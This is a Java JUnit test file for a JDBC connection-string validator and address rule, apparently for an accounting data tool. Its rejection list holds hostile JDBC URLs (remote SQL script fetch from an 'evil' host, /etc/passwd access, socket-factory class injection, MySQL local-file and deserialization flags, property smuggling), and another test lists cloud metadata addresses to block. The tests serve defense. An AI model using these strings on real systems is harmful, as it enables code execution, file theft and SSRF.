package org.kyhan.transport;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.net.InetAddress;
import java.net.UnknownHostException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import java.security.KeyStore;
import java.security.cert.X509Certificate;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.util.Base64;
import java.util.HashMap;
import java.util.Map;
import java.util.Properties;
import javax.net.ssl.TrustManagerFactory;
import javax.net.ssl.X509TrustManager;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.kyhan.ledger.FailureType;

class JdbcAddressTest {
  @ParameterizedTest
  @CsvSource(
      textBlock =
          """
          jdbc:postgresql://db.truong.example:5433/ketoan?sslmode=require,,
          jdbc:mysql://10.1.2.3/misa?sslMode=verify-full,jdbc:mariadb://10.1.2.3/misa?sslMode=verify-full,
          jdbc:sqlserver://KETOAN\\SQLEXPRESS:1433;databaseName=QLTH 2026;encrypt=false,,
          jdbc:firebirdsql://192.168.1.5:3050/C:/data/ketoan.fdb?charSet=utf-8,,
          jdbc:h2:tcp://[fd00::1]:9092/./books;SCHEMA=A,,
          """)
  void takesWhatPeopleNeed(String given, String understood) {
    assertThat(JdbcAddress.of(given).url()).isEqualTo(understood == null ? given : understood);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "http://db/x",
        "jdbc:oracle:thin:@//db:1521/x",
        "jdbc:sqlite:/etc/passwd",
        "jdbc:h2:mem:x",
        "jdbc:h2:file:/tmp/x",
        "jdbc:h2:/tmp/x",
        "jdbc:h2:tcp://db/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:tcp://db/x;TRACE_LEVEL_FILE=4",
        "jdbc:h2:tcp://db/x?INIT=1",
        "jdbc:postgresql://a,b/x",
        "jdbc:postgresql:x",
        "jdbc:postgresql://u:p@db/x",
        "jdbc:postgresql://db/x?socketFactory=org.example.Evil&socketFactoryArg=http://evil",
        "jdbc:postgresql://db/x?sslfactory=org.example.Evil",
        "jdbc:postgresql://db/x?loggerFile=/tmp/x",
        "jdbc:postgresql://db/x?%73ocketFactory=x",
        "jdbc:postgresql://db/x?user=a",
        "jdbc:postgresql://db/x?password=a",
        "jdbc:postgresql://db/x?readOnly=false",
        "jdbc:mysql://db/x?allowLoadLocalInfile=true",
        "jdbc:mysql://db/x?autoDeserialize=true",
        "jdbc:mysql://db/x?allowMultiQueries=true",
        "jdbc:mysql://address=(host=127.0.0.1)(port=3306)/x",
        "jdbc:mariadb:replication://a,b/x",
        "jdbc:mariadb://db/x?sslMode=trust",
        "jdbc:mariadb://db/x?pipe=x",
        "jdbc:sqlserver://db;trustServerCertificate=true",
        "jdbc:sqlserver://db;socketFactoryClass=org.example.Evil",
        "jdbc:sqlserver://db;databaseName={a;integratedSecurity=true}",
        "jdbc:sqlserver://db;serverName=127.0.0.1",
        "jdbc:firebirdsql:embedded:/x",
        "jdbc:firebirdsql://db/x?user=SYSDBA",
      })
  void refusesAnythingElse(String address) {
    assertThatThrownBy(() -> JdbcAddress.of(address))
        .isInstanceOfSatisfying(
            SourceFailure.class,
            failure -> assertThat(failure.type()).isEqualTo(FailureType.CONFIG_ERROR));
  }

  @ParameterizedTest
  @CsvSource({
    "8.8.8.8, true, true",
    "10.1.2.3, true, true",
    "192.168.0.9, true, true",
    "100.64.0.1, true, true",
    "fd00::1, true, true",
    "127.0.0.1, false, true",
    "127.8.8.8, false, true",
    "::1, false, true",
    "::ffff:127.0.0.1, false, true",
    "64:ff9b::7f00:1, false, true",
    "2002:7f00:1::, false, true",
    "::127.0.0.1, false, true",
    "169.254.1.1, false, false",
    "fe80::1, false, false",
    "64:ff9b::a9fe:0101, false, false",
    "169.254.169.254, false, false",
    "64:ff9b::a9fe:a9fe, false, false",
    "100.100.100.200, false, false",
    "fd00:ec2::254, false, false",
    "fd20:ce::254, false, false",
    "168.63.129.16, false, false",
    "0.0.0.0, false, false",
    "0.1.2.3, false, false",
    "::, false, false",
    "224.0.0.1, false, false",
    "255.255.255.255, false, false",
    "ff02::1, false, false"
  })
  void knowsWhichMachinesAreMeant(String address, boolean usual, boolean local)
      throws UnknownHostException {
    InetAddress machine = InetAddress.getByName(address);
    assertThat(new AddressRule(false).allows(machine)).isEqualTo(usual);
    assertThat(new AddressRule(true).allows(machine)).isEqualTo(local);
  }

  private static Values values(String... more) {
    Map<String, String> values =
        new HashMap<>(Map.of("connect_timeout", "1s", "read_timeout", "1s"));
    for (int i = 0; i < more.length; i += 2) {
      values.put(more[i], more[i + 1]);
    }
    return new Values(values, reference -> reference);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://db/x?sslmode=disable",
        "jdbc:postgresql://db/x?sslmode=require",
        "jdbc:postgresql://db/x?SSLMODE=allow",
        "jdbc:mariadb://db/x?sslMode=disable"
      })
  void letsNoAddressMakeANamedCertificateWorthless(String address, @TempDir Path folder)
      throws IOException, GeneralSecurityException {
    Values named = values("ca_file", certificate(folder).toString());
    assertThatThrownBy(() -> JdbcAddress.of(address).properties(named))
        .isInstanceOfSatisfying(
            SourceFailure.class,
            failure -> assertThat(failure.type()).isEqualTo(FailureType.CONFIG_ERROR));
  }

  private static Path certificate(Path folder) throws IOException, GeneralSecurityException {
    TrustManagerFactory usual =
        TrustManagerFactory.getInstance(TrustManagerFactory.getDefaultAlgorithm());
    usual.init((KeyStore) null);
    X509Certificate any = ((X509TrustManager) usual.getTrustManagers()[0]).getAcceptedIssuers()[0];
    return Files.writeString(
        folder.resolve("ca.pem"),
        "-----BEGIN CERTIFICATE-----\n"
            + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(any.getEncoded())
            + "\n-----END CERTIFICATE-----\n");
  }

  @Test
  void tellsOfAFileThatFirebirdDoesNotFind() {
    SQLException missing =
        new SQLException("I/O error during \"open\" for file \"x/kt.fdb\"", "08001", 335544344);
    JdbcAddress address = JdbcAddress.of("jdbc:firebirdsql://may-chu/x/kt.fdb");
    SourceFailure meant = JdbcPull.failure(missing, address);
    assertThat(meant.type()).isEqualTo(FailureType.CONFIG_ERROR);
    assertThat(meant).hasMessageContaining("hai dấu gạch chéo");
  }

  @ParameterizedTest
  @ValueSource(strings = {"postgresql", "mariadb", "sqlserver", "firebirdsql"})
  void tellsAForbiddenMachineFromOneThatIsDown(String engine) {
    JdbcAddress address =
        JdbcAddress.of(
            "jdbc:" + engine + "://127.0.0.1:1" + (engine.equals("sqlserver") ? "" : "/x"));
    Properties properties = address.properties(values("allow_private", "false"));
    assertThatThrownBy(() -> DriverManager.getConnection(address.url(), properties))
        .satisfies(
            thrown -> {
              SourceFailure meant =
                  thrown instanceof SQLException failed
                      ? JdbcPull.failure(failed, address)
                      : SourceFailure.of(thrown);
              assertThat(meant.type()).isEqualTo(FailureType.CONFIG_ERROR);
              assertThat(meant)
                  .hasMessageContaining("127.0.0.1")
                  .hasMessageContaining("allow_private");
            });
  }
}
